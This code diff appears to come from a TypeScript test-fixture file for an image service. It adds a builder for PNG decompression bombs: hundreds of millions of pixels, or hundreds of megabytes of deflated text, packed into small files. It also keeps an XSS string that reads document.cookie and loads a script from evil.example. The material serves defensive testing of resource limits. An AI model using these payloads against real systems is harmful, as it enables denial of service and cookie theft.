@@ -50,13 +50,26 @@ export async function turnedPhoto(times = 1): Promise<Buffer> {
   return sharp(upright).rotate(270).withMetadata({ orientation: 6 }).jpeg().toBuffer();
 }
 
-/** 900 million pixels, one bit each and all alike, in about 110 kB. */
-function bomb(): Buffer {
-  const side = 30_000;
+interface PlainPng {
+  width: number;
+  height: number;
+  /** Bits of each channel. */
+  depth?: 1 | 8 | 16;
+  /** PNG's colour type: grey, or RGBA. */
+  colour?: 0 | 6;
+  /** Bytes of a text beside the picture, all alike. */
+  text?: number;
+  /** Bytes of the picture's data, when not those that its size takes. */
+  bytes?: number;
+}
+
+/** A PNG whose pixels are all alike, so that a small file holds many of them. */
+export function plainPng({ width, height, depth = 8, colour = 0, text, bytes }: PlainPng): Buffer {
   const header = Buffer.alloc(13);
-  header.writeUInt32BE(side, 0);
-  header.writeUInt32BE(side, 4);
-  header[8] = 1;
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header[8] = depth;
+  header[9] = colour;
   const chunk = (type: string, data: Buffer) => {
     const body = Buffer.concat([Buffer.from(type), data]);
     const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
@@ -64,14 +77,41 @@ function bomb(): Buffer {
     sum.writeUInt32BE(crc32(body));
     return Buffer.concat([length, body, sum]);
   };
+  const channels = colour === 6 ? 4 : 1;
   // Each row: how it is filtered, then its bits.
-  const rows = Buffer.alloc(side * (1 + side / 8));
+  const rows = bytes ?? height * (1 + Math.ceil((width * channels * depth) / 8));
   return Buffer.concat([
     Buffer.from('89504e470d0a1a0a', 'hex'),
     chunk('IHDR', header),
-    chunk('IDAT', deflateSync(rows)),
+    ...(text === undefined
+      ? []
+      : [chunk('zTXt', Buffer.concat([Buffer.from('k\0\0'), deflateSync(Buffer.alloc(text))]))]),
+    chunk('IDAT', deflateSync(Buffer.alloc(rows))),
     chunk('IEND', Buffer.of()),
   ]);
+}
+
+/** Pictures that cost much more than their bytes say. */
+export async function costlyFiles(): Promise<Record<string, Buffer>> {
+  const frames = await Promise.all(Array.from({ length: 300 }, () => photo(16, 16)));
+  return {
+    'a PNG one pixel wide and 50,000,000 high': plainPng({ width: 1, height: 50_000_000 }),
+    'a PNG 16,385 pixels wide and one high': plainPng({ width: 16_385, height: 1 }),
+    'a PNG of 900 million pixels': plainPng({ width: 30_000, height: 30_000, depth: 1 }),
+    'a PNG of 49 million pixels of eight bytes': plainPng({
+      ...{ width: 7_000, height: 7_000, depth: 16, colour: 6 },
+      bytes: 1_000,
+    }),
+    'a PNG 16,384 pixels wide and one high': plainPng({ width: 16_384, height: 1 }),
+    'a PNG of 100 pixels in 200 MB': plainPng({ width: 10, height: 10, bytes: 200_000_000 }),
+    'a PNG with 200 MB of text': plainPng({ width: 10, height: 10, text: 200_000_000 }),
+    'a WebP of 300 frames': await sharp(frames, { join: { animated: true } })
+      .webp()
+      .toBuffer(),
+    'a GIF of 300 frames': await sharp(frames, { join: { animated: true } })
+      .gif()
+      .toBuffer(),
+  };
 }
 
 export const script = 'alert(document.cookie)//<script src=//evil.example/x.js></script>';
@@ -112,7 +152,6 @@ export async function oddFiles(): Promise<Record<string, Buffer>> {
     ]),
     'a PNG cut off': (await photo(64, 64, 'png')).subarray(0, 2_000),
     'a WebP cut off': (await photo(64, 64, 'webp')).subarray(0, 400),
-    'a PNG of 900 million pixels': bomb(),
     'one byte': Buffer.of(0xff),
     'a program': Buffer.from('\x7fELF\x02\x01\x01'),
   };
